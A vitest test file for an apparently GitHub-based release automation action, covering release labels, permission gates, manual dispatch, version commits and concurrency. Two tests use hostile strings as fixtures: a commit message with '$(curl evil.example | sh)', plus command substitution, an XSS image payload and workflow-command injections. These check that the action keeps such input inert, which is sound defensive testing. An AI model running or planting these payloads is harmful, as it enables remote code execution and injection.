import { describe } from 'vitest'
import { scenarioTest } from '../../test-support/fixtures.js'
import { GitFixture } from '../../test-support/git-fixture.js'
import type { Scenario } from '../../test-support/scenario.js'

const PACKAGE_JSON = '{\n    "name": "app",\n    "version": "1.0.0",\n    "private": true\n}\n'
const PACKAGE_LOCK =
  '{\n  "name": "app",\n  "version": "1.0.0",\n  "lockfileVersion": 3,\n  "packages": {\n    "": {\n      "name": "app",\n      "version": "1.0.0"\n    }\n  }\n}\n'

interface PullOptions {
  number?: number
  title?: string
  labels?: string[]
  merged?: boolean
  /** Closed without merging (merged: false). */
  closed?: boolean
  mergedBy?: string
  headRepo?: string
  message?: string
}

const it = scenarioTest({
  setup: s => {
    s.repo.commit('chore: init', { 'package.json': PACKAGE_JSON, 'package-lock.json': PACKAGE_LOCK })
    s.repo.tag('v1.0.0')
    s.state.roles.set('maintainer-mia', 'maintain')
    s.state.roles.set('triager-tom', 'triage')
  }
})

/** A pull request with one commit, merged with a merge commit (unless merged: false), known to the emulator. */
function pullRequest(s: Scenario, options: PullOptions = {}) {
  const number = options.number ?? 12
  const branch = `feature-${number}`
  s.repo.checkout(branch, true)
  const headSha = s.repo.commit(options.message ?? 'feat(cart): share carts (#12)')
  s.repo.checkout('main')
  const merged = options.merged ?? true
  const mergeSha = merged
    ? s.repo.merge(branch, `Merge pull request #${number} from ${options.headRepo ?? 'acme/app'}/${branch}`)
    : null
  const record = {
    number,
    title: options.title ?? 'Share carts',
    state: merged || options.closed ? ('closed' as const) : ('open' as const),
    merged,
    mergeCommitSha: mergeSha,
    baseRef: 'main',
    headRef: branch,
    headSha,
    headRepo: options.headRepo ?? 'acme/app',
    labels: options.labels ?? ['release'],
    user: 'contributor-cai',
    mergedBy: merged ? (options.mergedBy ?? 'maintainer-mia') : null
  }
  s.state.pulls.push(record)
  return record
}

function pullEvent(
  pull: ReturnType<typeof pullRequest>,
  action: 'closed' | 'labeled' | 'opened',
  sender: string,
  label?: string
) {
  return {
    eventName: 'pull_request_target',
    ref: 'refs/heads/main',
    sha: pull.mergeCommitSha ?? pull.headSha,
    event: {
      action,
      number: pull.number,
      sender: { login: sender },
      ...(label ? { label: { name: label } } : {}),
      pull_request: {
        number: pull.number,
        state: pull.state,
        title: pull.title,
        merged: pull.merged,
        merge_commit_sha: pull.mergeCommitSha,
        merged_by: pull.mergedBy ? { login: pull.mergedBy } : null,
        labels: pull.labels.map(name => ({ name })),
        base: { ref: 'main', repo: { full_name: 'acme/app' } },
        head: { ref: pull.headRef, sha: pull.headSha, repo: { full_name: pull.headRepo } }
      }
    }
  }
}

describe.concurrent('release label, manual dispatch and guardrails', () => {
  describe('release label', () => {
    it('a merged pull request with the label is released at its merge commit', async ({ s, expect }) => {
      const pull = pullRequest(s)
      const run = await s.run(pullEvent(pull, 'closed', 'maintainer-mia'))
      expect(run.outputs).toMatchObject({ outcome: 'released', version: '1.1.0', sha: pull.mergeCommitSha })
      expect(s.repo.head('v1.1.0')).toBe(pull.mergeCommitSha)
      expect(run.result.pullRequest).toEqual({ number: 12, title: 'Share carts', actor: 'maintainer-mia' })
      expect(run.summary).toContain('Pull request #12 “Share carts”, released on the word of maintainer-mia')
    })

    it('a pull request closed without merging, labelled, is skipped', async ({ s, expect }) => {
      const pull = pullRequest(s, { merged: false, closed: true })
      const run = await s.run(pullEvent(pull, 'labeled', 'maintainer-mia', 'release'))
      expect(run.exitCode).toBe(0)
      expect(run.outputs.outcome).toBe('skipped')
      expect(run.outputs['skipped-reason']).toBe(
        "pull request #12 is not merged; it will be released when it is merged with the 'release' label"
      )
      expect(s.emulator.writes()).toEqual([])
    })

    it('the release label on an open pull request previews it: nothing is released until the merge', async ({
      s,
      expect
    }) => {
      const pull = pullRequest(s, { merged: false })
      const run = await s.run(pullEvent(pull, 'labeled', 'maintainer-mia', 'release'))
      expect(run.exitCode).toBe(0)
      expect(run.outputs).toMatchObject({ outcome: 'preview', released: 'false', version: '1.1.0' })
      expect(s.emulator.writes()).toEqual([])
      expect(s.tags()).toEqual(['v1.0.0'])
    })

    it('the label added after the merge releases', async ({ s, expect }) => {
      const pull = pullRequest(s, { labels: ['release'] })
      const run = await s.run(pullEvent(pull, 'labeled', 'maintainer-mia', 'release'))
      expect(run.outputs).toMatchObject({ outcome: 'released', version: '1.1.0', sha: pull.mergeCommitSha })
    })

    it.for([
      [
        'another label added',
        'labeled',
        'documentation',
        ['release', 'documentation'],
        "the label 'documentation' added to #12 is not the release label 'release'"
      ],
      [
        'merged without the label',
        'closed',
        undefined,
        ['enhancement'],
        "pull request #12 does not carry the 'release' label"
      ],
      [
        'an opened pull request',
        'opened',
        undefined,
        ['release'],
        'pull request #12 was opened: only closed (merged) and labeled events can release'
      ]
    ] as const)('%s is skipped', async ([_name, action, label, labels, reason], { s, expect }) => {
      const pull = pullRequest(s, { labels: [...labels] })
      const run = await s.run(pullEvent(pull, action, 'maintainer-mia', label))
      expect(run.outputs.outcome).toBe('skipped')
      expect(run.outputs['skipped-reason']).toBe(reason)
      expect(s.emulator.writes()).toEqual([])
    })

    it('a labeler with only triage access is skipped, naming the user and the permission', async ({
      s,
      expect
    }) => {
      const pull = pullRequest(s)
      const run = await s.run(pullEvent(pull, 'labeled', 'triager-tom', 'release'))
      expect(run.outputs.outcome).toBe('skipped')
      expect(run.outputs['skipped-reason']).toBe(
        "triager-tom added the 'release' label to #12 but has triage access; releasing needs write, maintain or admin"
      )
      expect(s.emulator.writes()).toEqual([])
    })

    it('a pull request merged by an app or bot (not a collaborator) is skipped', async ({ s, expect }) => {
      const pull = pullRequest(s, { mergedBy: 'merge-queue[bot]' })
      const run = await s.run(pullEvent(pull, 'closed', 'merge-queue[bot]'))
      expect(run.outputs.outcome).toBe('skipped')
      expect(run.outputs['skipped-reason']).toBe(
        'merge-queue[bot] merged #12 but has none access; releasing needs write, maintain or admin'
      )
    })

    it('a pull request from a fork is released from the merge commit; nothing of the fork is read or run', async ({
      s,
      expect
    }) => {
      const pull = pullRequest(s, {
        headRepo: 'mallory/app',
        message: 'feat: innocent $(curl evil.example | sh)'
      })
      const run = await s.run(pullEvent(pull, 'closed', 'maintainer-mia'))
      expect(run.outputs).toMatchObject({ outcome: 'released', sha: pull.mergeCommitSha })
      const touched = s.emulator.requests.map(request => `${request.path}${request.query}`)
      expect(touched.filter(path => path.includes(pull.headSha) || path.includes('mallory'))).toEqual([])
    })

    it('a bump label overrides the automatic bump', async ({ s, expect }) => {
      const pull = pullRequest(s, { labels: ['release', 'release:major'] })
      const run = await s.run(pullEvent(pull, 'closed', 'maintainer-mia'))
      expect(run.outputs).toMatchObject({ outcome: 'released', version: '2.0.0' })
      expect(run.result.versionReason).toBe('the release:major label on #12')
    })

    it('the bump label prefix can be changed', async ({ s, expect }) => {
      const pull = pullRequest(s, { labels: ['release', 'semver:minor', 'release:major'] })
      const run = await s.run({
        ...pullEvent(pull, 'closed', 'maintainer-mia'),
        inputs: { 'bump-label-prefix': 'semver:' }
      })
      expect(run.outputs).toMatchObject({ outcome: 'released', version: '1.1.0' })
      expect(run.result.versionReason).toBe('the semver:minor label on #12')
    })

    it('a token without pull-requests: read is told so', async ({ s, expect }) => {
      const pull = pullRequest(s)
      s.emulator.inject({
        operationId: 'pulls/get',
        status: 403,
        body: { message: 'Resource not accessible by integration' }
      })
      const run = await s.run(pullEvent(pull, 'closed', 'maintainer-mia'))
      expect(run.outputs.outcome).toBe('blocked')
      expect(run.stdout).toContain(
        "GitHub refused to read pull request #12 (403: Resource not accessible by integration). The token needs 'pull-requests: read'"
      )
    })

    it('conflicting bump labels block with a clear message', async ({ s, expect }) => {
      const pull = pullRequest(s, { labels: ['release', 'release:major', 'release:patch'] })
      const run = await s.run(pullEvent(pull, 'closed', 'maintainer-mia'))
      expect(run.exitCode).toBe(1)
      expect(run.outputs.outcome).toBe('blocked')
      expect(run.stdout).toContain(
        '::error::pull request #12 has conflicting bump labels release:major, release:patch: keep one of them'
      )
      expect(s.emulator.writes()).toEqual([])
    })
  })

  describe('manual dispatch', () => {
    it('bump: major from the dispatch form releases a major version', async ({ s, expect }) => {
      s.repo.commit('fix: small')
      const run = await s.run({
        eventName: 'workflow_dispatch',
        event: { inputs: { bump: 'major' } },
        inputs: { bump: 'major' }
      })
      expect(run.outputs).toMatchObject({ outcome: 'released', version: '2.0.0' })
    })

    it('an explicit version from a person still passes every gate', async ({ s, expect }) => {
      const sha = s.repo.commit('fix: small')
      s.state.addCheckRun(sha, { name: 'test', conclusion: 'failure' })
      const run = await s.run({ eventName: 'workflow_dispatch', inputs: { bump: '3.0.0' } })
      expect(run.outputs.outcome).toBe('skipped')
      expect(run.outputs['skipped-reason']).toBe('checks failed: test (failure)')
      expect(s.emulator.writes()).toEqual([])
    })
  })

  describe('version files', () => {
    const COMMIT = { 'commit-version': 'true', 'changelog-file': 'CHANGELOG.md' }

    it('package.json, package-lock.json and CHANGELOG.md change in one API commit, and the tag points at it', async ({
      s,
      expect
    }) => {
      s.repo.commit('chore: changelog', { 'CHANGELOG.md': '# Changelog\n\n## 1.0.0\n\n- first\n' })
      const released = s.repo.commit('feat: wishlists')
      const run = await s.run({ inputs: COMMIT })
      expect(run.outputs).toMatchObject({ outcome: 'released', version: '1.1.0' })
      const versionCommit = s.repo.head('v1.1.0')
      expect(s.repo.head('main')).toBe(versionCommit)
      expect(s.repo.git(['rev-parse', `${versionCommit}^`])).toBe(released)
      expect(s.repo.git(['log', '-1', '--format=%s', versionCommit])).toBe('chore(release): v1.1.0 [skip ci]')
      expect(s.repo.git(['diff', '--name-only', released, versionCommit]).split('\n')).toEqual([
        'CHANGELOG.md',
        'package-lock.json',
        'package.json'
      ])
      expect(s.repo.git(['show', `${versionCommit}:package.json`]) + '\n').toBe(
        PACKAGE_JSON.replace('1.0.0', '1.1.0')
      )
      const lock = JSON.parse(s.repo.git(['show', `${versionCommit}:package-lock.json`]))
      expect([lock.version, lock.packages[''].version]).toEqual(['1.1.0', '1.1.0'])
      const changelog = s.repo.git(['show', `${versionCommit}:CHANGELOG.md`])
      expect(changelog).toMatch(
        /^# Changelog\n\n## \[1\.1\.0\]\(.+\/compare\/v1\.0\.0\.\.\.v1\.1\.0\) \(\d{4}-\d{2}-\d{2}\)\n\n### Features\n\n- wishlists/
      )
      expect(changelog).toContain('## 1.0.0\n\n- first')
      const writes = s.emulator.writes().map(request => request.operationId)
      expect(writes).toEqual([
        'git/create-tree',
        'git/create-commit',
        'git/update-ref',
        'git/create-ref',
        'repos/create-release',
        'repos/update-release'
      ])
      expect(s.emulator.requests.find(request => request.operationId === 'git/update-ref')?.body).toEqual({
        sha: versionCommit,
        force: false
      })
    })

    it('a rerun after a version-commit release releases nothing again', async ({ s, expect }) => {
      s.repo.commit('feat: wishlists')
      const first = await s.run({ inputs: COMMIT })
      const second = await s.run({ inputs: COMMIT })
      expect(second.outputs).toMatchObject({
        outcome: 'skipped',
        'skipped-reason': 'already released as v1.1.0',
        'release-url': first.outputs['release-url']
      })
      expect(s.tags()).toEqual(['v1.0.0', 'v1.1.0'])
    })

    it('the branch moving during the run is retried on the new head', async ({ s, expect }) => {
      const released = s.repo.commit('feat: wishlists')
      let pushed = ''
      s.emulator.inject({
        operationId: 'git/update-ref',
        status: 0,
        before: () => void (pushed = s.repo.commit('docs: someone pushed meanwhile'))
      })
      const run = await s.run({ inputs: COMMIT })
      expect(run.outputs).toMatchObject({ outcome: 'released', version: '1.1.0' })
      const versionCommit = s.repo.head('v1.1.0')
      expect(s.repo.git(['rev-parse', `${versionCommit}^`])).toBe(pushed)
      // git exits non-zero (and git() throws) when the released commit is not in the version commit's history.
      expect(() => s.repo.git(['merge-base', '--is-ancestor', released, versionCommit])).not.toThrow()
      expect(s.repo.head('main')).toBe(versionCommit)
      expect(
        s.emulator.requests
          .filter(request => request.operationId === 'git/update-ref')
          .map(request => request.status)
      ).toEqual([422, 200])
      expect(run.result.steps.find(step => step.id === 'version-commit')?.reason).toContain(
        'after main moved; attempt 2'
      )
    })

    it('two runs at once make one version commit, one tag and one release', async ({ s, expect }) => {
      const released = s.repo.commit('feat: wishlists')
      const runs = await Promise.all([s.run({ inputs: COMMIT }), s.run({ inputs: COMMIT })])
      expect(runs.map(run => run.exitCode)).toEqual([0, 0])
      expect(runs.map(run => run.outputs.outcome).sort()).toEqual(['released', 'skipped'])
      expect(s.repo.git(['rev-list', '--count', `${released}..main`])).toBe('1')
      expect(s.repo.head('v1.1.0')).toBe(s.repo.head('main'))
      expect(s.state.releases).toHaveLength(1)
    })

    it('a protected branch blocks with the options explained, and nothing is tagged', async ({
      s,
      expect
    }) => {
      s.repo.commit('feat: wishlists')
      s.state.protectedBranches.add('main')
      const run = await s.run({ inputs: COMMIT })
      expect(run.exitCode).toBe(1)
      expect(run.outputs.outcome).toBe('blocked')
      expect(run.stdout).toContain('Protected branch update failed for refs/heads/main.')
      expect(run.stdout).toContain("allow the token's actor to bypass them")
      expect(run.stdout).toContain('set commit-version: false')
      expect(s.tags()).toEqual(['v1.0.0'])
      expect(s.state.releases).toEqual([])
    })

    it('a VERSION file keeps its style', async ({ s, expect }) => {
      s.repo.commit('chore: version file', { VERSION: 'v1.0.0\n' })
      s.repo.commit('fix: x')
      const run = await s.run({ inputs: { 'commit-version': 'true', 'version-file': 'VERSION' } })
      expect(run.outputs.version).toBe('1.0.1')
      expect(s.repo.git(['show', 'v1.0.1:VERSION'])).toBe('v1.0.1')
    })
  })

  it('hostile commit messages, pull request titles and labels stay inert everywhere', async ({
    s,
    expect
  }) => {
    const hostile =
      '::set-output name=released::true <img src=x onerror=alert(1)> $(touch /tmp/pwned) ::add-mask::x ::stop-commands::stop'
    const pull = pullRequest(s, {
      title: hostile,
      message: `feat: ${hostile}`,
      labels: ['release', 'release:<img src=y>']
    })
    const run = await s.run(pullEvent(pull, 'closed', 'maintainer-mia'))
    expect(run.outputs.outcome).toBe('released')
    const commandLines = run.stdout.split('\n').filter(line => /^\s*::/.test(line))
    expect(
      commandLines.filter(
        line => !/^::(add-mask::ghs_emulatortoken|group::|endgroup::|notice::|warning::|debug::)/.test(line)
      )
    ).toEqual([])
    expect(run.stdout).not.toMatch(/^::set-output|^::stop-commands|^::add-mask::x/m)
    expect(run.summary).not.toContain('<img')
    expect(s.state.releases[0]!.body).not.toContain('<img')
    expect(run.outputs.released).toBe('true')
    expect(JSON.parse(run.outputs.result!).pullRequest.title).toBe(hostile)
  })

  it('fleet: one control repository releases two products', async ({ s, expect }) => {
    const products = ['acme/shop', 'acme/billing'].map(name => {
      const repo = new GitFixture()
      repo.commit('chore: init')
      repo.tag('v0.3.0')
      repo.commit(name === 'acme/shop' ? 'feat: carts' : 'fix: rounding')
      s.emulator.addRepo(name, repo.dir)
      return { name, repo }
    })
    const runs = await Promise.all(products.map(product => s.run({ inputs: { repository: product.name } })))
    expect(runs.map(run => [run.outputs.outcome, run.outputs.version])).toEqual([
      ['released', '0.4.0'],
      ['released', '0.3.1']
    ])
    expect(products.map(product => product.repo.git(['tag', '--list']).split('\n'))).toEqual([
      ['v0.3.0', 'v0.4.0'],
      ['v0.3.0', 'v0.3.1']
    ])
    expect(s.tags()).toEqual(['v1.0.0'])
    for (const product of products) product.repo.remove()
  })
})
